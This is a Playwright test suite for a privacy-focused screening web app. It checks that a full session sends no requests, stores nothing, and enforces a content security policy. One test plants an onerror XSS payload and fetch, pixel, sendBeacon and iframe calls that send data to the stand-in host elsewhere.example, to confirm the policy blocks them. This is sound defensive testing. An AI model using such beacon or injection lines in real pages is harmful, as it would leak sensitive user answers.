// Nothing leaves the page: no request after the start, nothing stored, nothing in the console, the address or the
// history, and a policy that is in force.
import { expect, test } from "@playwright/test";
import { serve } from "../../scripts/serve.mjs";
import { FILE_NAME, Worker } from "./worker.mjs";

const deployment = new URL("../../docs/deployment.example.json", import.meta.url).pathname;

/** The release on a server of this test’s own, which writes down every request. */
async function watched(use) {
  const asked = [];
  const server = await serve({ port: 0, prefix: "/a/place/", deployment, onRequest: (path) => asked.push(path) });
  try {
    await use(server.url, asked);
  } finally {
    await server.close();
  }
}

test("a whole screening with every file saved makes no request and leaves nothing behind", async ({ page, context }) => {
  await watched(async (address, asked) => {
    const worker = new Worker(page);
    const requests = [];
    // Of the whole browser context, so that a worker or a second page could not hide one.
    context.on("request", (it) => requests.push(`${it.method()} ${it.url()}`));
    page.on("websocket", (it) => requests.push(`websocket ${it.url()}`));
    await worker.opens(address);
    await worker.sealed();
    const [title, url, entries] = await page.evaluate(() => [document.title, location.href, history.length]);
    expect(asked.length).toBeGreaterThan(3);
    const served = [...new Set(requests.map((it) => new URL(it.split(" ")[1]).origin))];
    expect(served, "even the start comes from one place").toEqual([new URL(address).origin]);
    requests.length = 0;
    asked.length = 0;

    await worker.isTrained();
    await worker.hasConsent();
    await worker.opensPage("Name and sex");
    await worker.types("What name would you like me to use?", "Quietmarker");
    await worker.answers("How they are treated", { "How do people treat you there? Has any of this happened?": "Pay was held back" });
    await page.getByLabel("Help: Treatment", { exact: true }).click();
    await worker.walksTo("What does this add up to?");
    await worker.walksTo("What describes their situation?");
    await worker.presses("Accept the suggestions");
    await worker.walksTo("Which help, and from whom?");
    await worker.presses("Accept the suggestions");
    await worker.agreesToShare("IOM", ["Name and birth", "What happened"]);
    await worker.goesTo(/^Summary/);
    await worker.opensSummaryFor("IOM");
    const saved = [await worker.saves("Save as text"), await worker.saves("Save the note"), await worker.savesRecord()];
    expect(saved[0].text).toContain("Quietmarker");
    for (const { name } of saved) expect(name).toMatch(FILE_NAME);
    await worker.continues();
    await worker.at("Before you go on");
    await page.waitForTimeout(500);

    expect(requests.filter((it) => !it.startsWith("GET blob:"))).toEqual([]);
    expect(asked).toEqual([]);
    expect(worker.noise).toEqual([]);
    await worker.keepsNothing();
    expect(await page.evaluate(() => [document.title, location.href])).toEqual([title, url]);
    expect(page.url()).toBe(address);
    expect((await page.evaluate(() => history.length)) - entries).toBeLessThanOrEqual(1);
    expect(await page.evaluate(() => JSON.stringify(history.state))).toBe("null");
    // A reload erases it, as the start screen says.
    page.on("dialog", (it) => it.accept());
    await page.reload();
    await worker.at("Prepare a first conversation");
    expect(await page.content()).not.toContain("Quietmarker");
    await worker.keepsNothing();
  });
});

test("the start adds at most one entry to the history", async ({ page }) => {
  await page.goto("about:blank");
  const before = await page.evaluate(() => history.length);
  const worker = new Worker(page);
  await worker.opens();
  await worker.isTrained();
  await worker.hasConsent();
  // One for the address itself, one more for the Back button.
  expect((await page.evaluate(() => history.length)) - before).toBeLessThanOrEqual(2);
});

test("the policy is in force: no foreign script, style, request, frame or form", async ({ page }) => {
  const worker = new Worker(page);
  await worker.opens();
  // The browser announces a refused request too, and then says that it was blocked.
  const begun = [];
  const blocked = [];
  page.on("request", (it) => begun.push(it.url()));
  page.on("requestfailed", (it) => blocked.push(`${it.url()} ${it.failure().errorText}`));
  const found = await page.evaluate(async () => {
    const refused = [];
    document.addEventListener("securitypolicyviolation", (it) => refused.push(it.effectiveDirective));
    const attempt = async (act) => { try { await act(); } catch { /* refused */ } };
    await attempt(() => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.ran = 'script'"));
      document.body.append(script);
    });
    await attempt(() => {
      const box = document.createElement("div");
      box.innerHTML = "<img src=x onerror=\"window.ran = 'markup'\">";
      document.body.append(box);
    });
    await attempt(() => {
      const style = document.createElement("style");
      style.append(document.createTextNode("body { opacity: 0.5 }"));
      document.head.append(style);
    });
    await attempt(() => fetch("https://elsewhere.example/?q=answer"));
    await attempt(() => {
      const image = new Image();
      image.src = "https://elsewhere.example/pixel.png?q=answer";
      document.body.append(image);
    });
    await attempt(() => navigator.sendBeacon("https://elsewhere.example/beacon", "answer"));
    await attempt(() => {
      const frame = document.createElement("iframe");
      frame.src = "https://elsewhere.example/";
      document.body.append(frame);
    });
    await new Promise((done) => setTimeout(done, 300));
    return { refused: [...new Set(refused)].sort(), ran: window.ran, opacity: getComputedStyle(document.body).opacity };
  });
  expect(found.ran).toBeUndefined();
  expect(found.opacity).toBe("1");
  expect(found.refused).toEqual(expect.arrayContaining(["connect-src", "frame-src", "img-src", "style-src-elem"]));
  expect(found.refused.some((it) => it === "script-src-elem" || it === "require-trusted-types-for")).toBe(true);
  const outside = begun.filter((it) => it.startsWith("http"));
  expect(blocked.filter((it) => it.startsWith("http") && it.endsWith(" csp")).map((it) => it.split(" ")[0]), "nothing reached the network").toEqual(outside);
  // A refused attempt must not break the page.
  await worker.chooses("What may you do?", "I only observe");
  await worker.continues();
  await worker.readsAboutLeaving();
  await worker.at("This place");
});
